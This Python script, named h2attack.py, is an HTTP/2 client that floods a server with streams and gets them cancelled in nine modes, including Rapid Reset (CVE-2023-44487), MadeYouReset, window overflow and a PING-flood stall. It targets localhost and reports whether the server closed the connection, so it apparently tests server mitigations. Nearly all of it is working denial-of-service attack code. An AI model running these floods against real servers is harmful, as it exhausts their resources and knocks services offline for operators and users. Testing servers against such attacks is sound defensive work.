#!/usr/bin/env python3
"""An HTTP/2 client that opens streams and gets them cancelled, over TLS (ALPN h2).

usage: h2attack.py PORT PATH MODE STREAMS
Every stream is a GET of PATH with END_STREAM; what follows it on the same stream is the
MODE, one of the ways a client can make the server start a request and then cancel it:
  rst     RST_STREAM(CANCEL) from the client (Rapid Reset, CVE-2023-44487)
  zero    WINDOW_UPDATE of 0, which the server must answer with a reset (MadeYouReset)
  overflow  WINDOW_UPDATE of 2^31-1, overflowing the stream's window
  data    a DATA frame on the stream the client has already ended
  headers a second HEADERS without END_STREAM on that stream
  clen    (the GET has no END_STREAM) content-length: 1 and a DATA frame of 2 bytes
  refused nothing: streams pile up past SETTINGS_MAX_CONCURRENT_STREAMS
  prio    PRIORITY making the stream depend on itself
  stall   rst, after a flood of PINGs the client does not read has made the server stop
          reading and start again
Prints one JSON line: streams sent before the server closed, whether it closed, and the
client's port.
"""
import json
import select
import socket
import ssl
import struct
import sys
import time

import hpack

port, path, mode, streams = int(sys.argv[1]), sys.argv[2], sys.argv[3], int(sys.argv[4])
BATCH = 50
END_STREAM = 0x1
END_HEADERS = 0x4


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + \
        struct.pack(">I", sid) + payload


# TLS over memory buffers on a non-blocking socket: the client sees when the server stops
# reading, which a blocking send would hang on.
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
ctx.set_alpn_protocols(["h2"])
raw = socket.socket()
raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
raw.settimeout(5)
raw.connect(("127.0.0.1", port))
raw.setblocking(False)
local_port = raw.getsockname()[1]
bio_in, bio_out = ssl.MemoryBIO(), ssl.MemoryBIO()
tls = ctx.wrap_bio(bio_in, bio_out, server_hostname="localhost")
unsent = b""


def flush(seconds):
    """Sends what TLS has ready; False when the server does not take it in time."""
    global unsent
    unsent += bio_out.read()
    deadline = time.monotonic() + seconds
    while unsent and time.monotonic() < deadline:
        select.select([], [raw], [], 0.1)
        try:
            unsent = unsent[raw.send(unsent):]
        except BlockingIOError:
            pass
    return not unsent


def pump(seconds):
    """Reads and drops what the server sent; EOFError once it has closed."""
    select.select([raw], [], [], seconds)
    try:
        got = raw.recv(1 << 20)
    except BlockingIOError:
        return 0
    if got == b"":
        raise EOFError
    bio_in.write(got)
    try:
        while tls.read(1 << 20):
            pass
    except (ssl.SSLWantReadError, ssl.SSLZeroReturnError):
        pass
    return len(got)


def send(data, seconds=5):
    tls.write(data)
    if not flush(seconds):
        raise TimeoutError


while True:
    try:
        tls.do_handshake()
        break
    except ssl.SSLWantReadError:
        flush(5)
        pump(1)
assert tls.selected_alpn_protocol() == "h2", tls.selected_alpn_protocol()
send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(0x4, 0, 0))

if mode == "stall":
    # PINGs, reading nothing, until the server stops reading (a send stalls): then read
    # all it wrote, so that it reads again once its writes complete.
    pings = frame(0x6, 0, 0, b"12345678") * 1000
    for _ in range(250):
        try:
            send(pings, 1)
        except TimeoutError:
            break
    quiet = time.monotonic() + 1.5
    while time.monotonic() < quiet:
        if pump(0.2):
            quiet = time.monotonic() + 1.5
        flush(0.1)
    mode = "rst"

enc = hpack.Encoder()
headers = [(":method", "GET"), (":path", path), (":scheme", "https"),
           (":authority", "localhost")]

def one_stream(sid):
    if mode == "clen":
        block = enc.encode(headers + [("content-length", "1")])
        return frame(0x1, END_HEADERS, sid, block) + frame(0x0, END_STREAM, sid, b"xx")
    out = frame(0x1, END_HEADERS | END_STREAM, sid, enc.encode(headers))
    if mode == "rst":
        out += frame(0x3, 0, sid, struct.pack(">I", 8))
    elif mode == "zero":
        out += frame(0x8, 0, sid, struct.pack(">I", 0))
    elif mode == "overflow":
        out += frame(0x8, 0, sid, struct.pack(">I", 0x7fffffff))
    elif mode == "data":
        out += frame(0x0, 0, sid, b"x")
    elif mode == "headers":
        out += frame(0x1, END_HEADERS, sid, enc.encode(headers))
    elif mode == "prio":
        out += frame(0x2, 0, sid, struct.pack(">IB", sid, 15))
    elif mode != "refused":
        sys.exit(f"unknown mode {mode}")
    return out


sent, closed, sid = 0, False, 1
try:
    while sent < streams:
        out = b""
        for _ in range(min(BATCH, streams - sent)):
            out += one_stream(sid)
            sid += 2
            sent += 1
        send(out)
        pump(0)
except (EOFError, TimeoutError, ssl.SSLError, OSError):
    closed = True

# Whatever is left: the server either closes (EOF) or keeps the connection open.
deadline = time.monotonic() + 3
while not closed and time.monotonic() < deadline:
    try:
        pump(0.2)
    except (EOFError, ssl.SSLError, OSError):
        closed = True
print(json.dumps({"sent": sent, "closed": closed, "port": local_port}))
